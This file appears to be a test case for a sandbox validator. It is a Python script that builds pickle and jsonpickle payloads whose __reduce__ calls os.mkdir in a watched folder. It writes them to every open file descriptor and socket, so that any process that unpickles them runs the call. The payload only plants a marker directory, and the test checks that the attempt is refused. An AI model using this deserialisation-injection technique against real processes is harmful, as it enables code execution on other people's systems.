# attack: if the owner unpickled what a script can send, a pickle would run there: writes some to every line out
# expect: validator
# validator: refused
import os
import pickle
import socket
import struct
import sys


class Bomb:
    """On loading, in whatever process does it: a file in the watched folder."""

    def __reduce__(self):
        return (os.mkdir, ("@WATCH_DIR@/made_by_the_owner",))


payloads = [pickle.dumps(Bomb(), protocol) for protocol in range(6)]
# As multiprocessing would frame it, and as a line of JSON that carries one.
framed = [struct.pack("!i", len(data)) + data for data in payloads]
dressed = [
    b'{"py/reduce": [{"py/function": "os.mkdir"}, ["@WATCH_DIR@/by_jsonpickle"]]}\n',
    b'{"reason": "memory", "py/object": 1}\n',
]

for fd in range(1, 64):
    try:
        kind = os.fstat(fd).st_mode
    except OSError:
        continue
    for data in (*payloads, *framed, *dressed):
        try:
            if fd > 2:
                os.set_blocking(fd, False)
            os.write(fd, data)
        except OSError as error:
            print("at", fd, oct(kind), error.strerror, file=sys.stderr)
            break
    try:
        socket.socket(fileno=os.dup(fd)).sendmsg([payloads[-1]])
    except OSError:
        continue
